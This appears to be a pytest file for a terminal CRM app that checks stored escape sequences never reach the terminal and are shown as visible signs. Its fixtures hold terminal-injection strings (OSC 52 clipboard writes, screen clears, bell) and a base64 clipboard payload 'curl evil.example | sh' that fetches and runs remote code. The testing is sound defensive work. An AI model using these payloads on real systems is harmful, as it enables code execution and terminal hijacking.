"""Stored text never drives the terminal: the real app in a pseudo-terminal, its bytes checked.

A contact whose name holds escape sequences (OSC 52 sets the clipboard, CSI 2J clears the
screen, BEL rings, the 8-bit CSI) is opened, named in a notification and saved; not one
of those sequences may reach the terminal, and the user sees each control character as
a visible sign.
"""
from __future__ import annotations

import base64
import re

import pytest
from textual import events
from textual.app import App, ComposeResult

from crm_tui.db import close_database, migrations, open_database
from crm_tui.db.models import Category, Client, Contact, OpportunityType, Project, User, now
from crm_tui.services import Actor, users
from crm_tui.widgets.dialogs import ConfirmDialog
from crm_tui.widgets.safe import SafeInput, SafeTextArea, clean_display
from terminal_support import Terminal, crm_command, terminal_environment
from test_app_support import SIZE, make_app, open_item, settle, ui_admin, ui_db  # noqa: F401

# The CRM knows who runs it from the operating system: register that account.
LOGIN = users.system_login()
CLIPBOARD_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
OSC52_BEL = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07"
OSC52_ST = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x1b\\"
HOSTILE_NAME = f"Zed{OSC52_ST}Zed\x1b[2JZed\x07Zed\x9b2JZed{OSC52_BEL}Zed"
HOSTILE_NOTES = "first\x1b[2J line\nsecond\x07 line\x1b]0;owned\x07"
# What the user sees instead: every control character as its Unicode control picture.
SEEN_NAME_START = f"Zed␛]52;c;{CLIPBOARD_PAYLOAD}␛\\Zed␛[2JZed␇Zed"

TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")

pytestmark = pytest.mark.skipif(not hasattr(__import__("os"), "openpty"), reason="needs a pseudo-terminal")


def stamps() -> dict:
    moment = now()
    return {"created_at": moment, "updated_at": moment, "created_by": "other-program",
            "updated_by": "other-program", "version": 1}


@pytest.fixture
def hostile_database(tmp_path):
    """A database where another program (or an older version) stored raw control characters."""
    path = tmp_path / "hostile.db"
    database = open_database(str(path), create=True)
    migrations.upgrade(database)
    users.bootstrap_first_admin(LOGIN, "Tess Tester")
    client = Client.create(key=1, name="Acme\x1b[31m red", name_folded="acme red", **stamps())
    for key in (1, 2):
        Contact.create(key=key, client=client, name=HOSTILE_NAME, name_folded="zed", phone="55\x1b[5m",
                       notes=HOSTILE_NOTES, active=True, **stamps())
    close_database()
    return path


def stored_contacts(path) -> list[Contact]:
    open_database(str(path))
    try:
        return list(Contact.select().order_by(Contact.key))
    finally:
        close_database()


# The only operating-system commands Textual itself sends: the mouse pointer's shape (OSC 22),
# ended by BEL.
TEXTUAL_POINTER_SHAPE = re.compile(rb"\x1b\]22;[a-z-]*\x07")


def assert_no_sequence_from_data(written: bytes) -> None:
    assert b"\x1b]52" not in written, "the clipboard was set (OSC 52)"
    assert b"\x1b]0;owned" not in written, "the window title was set (OSC 0)"
    written = TEXTUAL_POINTER_SHAPE.sub(b"", written)
    assert b"\x1b]" not in written, "an operating-system command from data reached the terminal"
    assert b"\x1b[2J" not in written, "the screen was cleared (CSI 2J)"
    assert b"\x1b[5m" not in written and b"\x1b[31m red" not in written
    assert b"\x07" not in written, "the bell rang (BEL)"
    assert "\x9b".encode() not in written, "an 8-bit CSI reached the terminal"
    assert CLIPBOARD_PAYLOAD.encode() in written  # the data itself was shown, as text


def test_a_hostile_contact_opened_saved_and_named_sends_no_escape_sequence(hostile_database, tmp_path):
    env = terminal_environment(tmp_path, LOGIN)
    terminal = Terminal([*crm_command(), "--db", str(hostile_database), "--lang", "en"], env)
    try:
        terminal.wait_for("Load activities")  # the home screen
        terminal.press("f2")
        terminal.wait_for("CRM menu")
        terminal.press("3")  # Contact catalog
        terminal.wait_for("3. Contact catalog")
        terminal.press("enter")
        terminal.wait_for("F3 Modify")
        listed = terminal.wait_for("Acme")

        terminal.press("f3")  # the edit form of the first hostile contact
        form = terminal.wait_for("Key: 1")
        terminal.press("escape")  # nothing changed: straight back to the list
        terminal.wait_for("F3 Modify")
        terminal.press("f3", "f8")  # open it again and save it as shown
        terminal.wait_for("Saved.")
        terminal.wait_for("F3 Modify")

        terminal.press("down", "f6")  # deactivate the second: a notification names it
        toast = terminal.wait_for("was deactivated")
    finally:
        code = terminal.close()
    written = terminal.bytes_written()
    (tmp_path / "terminal.bin").write_bytes(written)
    assert code == 0, terminal.screen_text()
    assert "Zed␛]52" in listed and "Acme␛[31m red" in listed
    assert SEEN_NAME_START[:40] in form  # the name field, each control as its sign
    assert "first␛[2J line" in form and "second␇ line␛]0;owned␇" in form  # the notes
    assert "55␛[5m" in form and "Acme␛[31m red" in form  # the phone and the client's look-up
    assert "«Zed␛]52;c;" in toast
    assert_no_sequence_from_data(written)

    saved, deactivated = stored_contacts(hostile_database)
    for contact in (saved, deactivated):
        assert not TERMINAL_CONTROLS.search(contact.name + contact.notes + contact.phone)
    assert saved.name.startswith(SEEN_NAME_START)  # saved as the user saw it
    assert saved.notes == "first␛[2J line\nsecond␇ line␛]0;owned␇"
    assert deactivated.active is False and deactivated.name.startswith("Zed]52;c;")  # cleaned by the service


# --- every catalog screen, through Textual's own picture of the screen ----------------------

RAW = "\x1b]52;c;QQ==\x07\x1b[2J\x9b"  # what another program may have left in a record
SIGNS = "␛]52;c;QQ==␇␛[2J"


def stored_raw_records() -> Actor:
    """One record of every catalog with RAW in its texts; the signed-in admin's name too."""
    admin = users.bootstrap_first_admin("ana")
    User.update(full_name=f"Ana{RAW}Admin").where(User.id == admin.id).execute()
    client = Client.create(key=1, name=f"Acme{RAW}", name_folded="acme", notes=f"n{RAW}", **stamps())
    contact = Contact.create(key=1, client=client, name=f"Zed{RAW}", name_folded="zed", notes=f"x{RAW}\ny",
                             **stamps())
    Category.create(name=f"Cat{RAW}", name_folded="cat", **stamps())
    OpportunityType.create(name=f"Type{RAW}", name_folded="type", **stamps())
    Project.create(key=1, client=client, name=f"Plan{RAW}", name_folded="plan", description=f"d{RAW}",
                   user_in_charge=admin.id, contact_in_charge=contact, **stamps())
    return Actor(admin.id, admin.username, f"Ana{RAW}Admin", admin.role)


def assert_shown_with_signs(app, where: str) -> None:
    picture = app.export_screenshot()
    leaked = sorted({f"U+{ord(ch):04X}" for ch in TERMINAL_CONTROLS.findall(picture)})
    assert leaked == [], f"{where}: control characters on the screen"
    assert "␛" in picture, f"{where}: the stored control characters are not shown"


@pytest.mark.parametrize("item_id", ["categories", "clients", "contacts", "projects", "users",
                                     "opportunity_types"])
async def test_every_catalog_shows_stored_control_characters_as_signs(ui_db, item_id):
    actor = stored_raw_records()
    app = make_app(actor)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await open_item(pilot, item_id)
        assert_shown_with_signs(app, f"{item_id} list")
        await pilot.press("f3")
        await settle(pilot)
        assert_shown_with_signs(app, f"{item_id} form")
        fields = [field.value for field in app.screen.query(SafeInput)]
        fields += [area.text for area in app.screen.query(SafeTextArea)]
        assert any(SIGNS in value for value in fields) and not TERMINAL_CONTROLS.search("".join(fields))
        await pilot.press("escape")
        await settle(pilot)
        catalog = app.screen
        if catalog.CAN_DELETE:
            await pilot.press("f4")  # the question names the record
            await settle(pilot)
            assert isinstance(app.screen, ConfirmDialog)
            assert_shown_with_signs(app, f"{item_id} delete question")
            await pilot.press("n")
            await settle(pilot)
        if catalog.CAN_DEACTIVATE:
            await pilot.press("f6")  # a notification names the record
            await settle(pilot)
            assert_shown_with_signs(app, f"{item_id} notification")


async def test_a_notification_shows_control_characters_as_signs_whoever_sends_it(ui_admin):
    app = make_app(ui_admin)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        app.screen.notify(f"Saved «Zed{RAW}»", title=f"Title{RAW}", markup=False)
        await settle(pilot)
        assert_shown_with_signs(app, "notification")
        picture = app.export_screenshot()
        assert "Zed␛]52;c;QQ==␇␛[2J" in picture and "Title␛]52;c;QQ==␇␛[2J" in picture


# --- the visible signs ------------------------------------------------------------------------


def test_each_control_character_has_a_visible_sign_and_a_line_keeps_its_length():
    raw = "a\x00b\x1bc\x07d\x7fe\x9bf\tg\nh\ri"
    assert clean_display(raw, one_line=True) == "a␀b␛c␇d␡e�f g h i"
    assert len(clean_display(raw, one_line=True)) == len(raw)  # a cursor inside it stays put
    assert clean_display("x\r\ny\rz\tw") == "x\ny\nz w"
    assert clean_display("x\r\ny\tz\x1b", keep_tabs=True) == "x\ny\tz␛"
    assert clean_display("[bold]Café ☕[/]") == "[bold]Café ☕[/]"


class FieldsApp(App):
    def compose(self) -> ComposeResult:
        yield SafeInput(f"Zed{RAW}", id="line")
        yield SafeTextArea(f"one{RAW}\ntwo", id="text")


async def test_fields_show_signs_for_what_they_are_given_pasted_or_loaded():
    app = FieldsApp()
    async with app.run_test() as pilot:
        line = app.query_one("#line", SafeInput)
        text = app.query_one("#text", SafeTextArea)
        assert line.value == "Zed␛]52;c;QQ==␇␛[2J�" and text.text == "one␛]52;c;QQ==␇␛[2J�\ntwo"
        line.value = "\x1b[31mred"
        assert line.value == "␛[31mred"
        line.focus()
        line.cursor_position = 1
        app.post_message(events.Paste("\x07x"))
        await pilot.pause()
        assert line.value == "␛␇x[31mred" and line.cursor_position == 3
        text.load_text("a\x1b[2Jb\r\nc\td")
        assert text.text == "a␛[2Jb\nc\td"
        text.focus()
        text.move_cursor((0, 0))
        app.post_message(events.Paste("\x1b]0;t\x07\r\n"))
        await pilot.pause()
        assert text.text == "␛]0;t␇\na␛[2Jb\nc\td"
        text.insert("\x9b")
        assert "\x9b" not in text.text and "�" in text.text


def test_a_copy_to_the_clipboard_carries_visible_signs_not_the_escapes_stored_in_a_record():
    # Seen: `c` on the home screen copied an activity whose contact, written into the
    # database outside the CRM, held OSC 52: the paste would have run it in the next terminal.
    import asyncio

    from crm_tui.widgets.safe import SafeOutput

    class Copying(SafeOutput, App):
        pass

    async def scenario() -> str:
        app = Copying()
        async with app.run_test():
            app.copy_to_clipboard("Mariana \x1b]52;c;QUJD\x07\tCafé\nsegunda línea")
            return app.clipboard

    copied = asyncio.run(scenario())
    assert "\x1b" not in copied and "\x07" not in copied
    assert copied == "Mariana ␛]52;c;QUJD␇\tCafé\nsegunda línea"
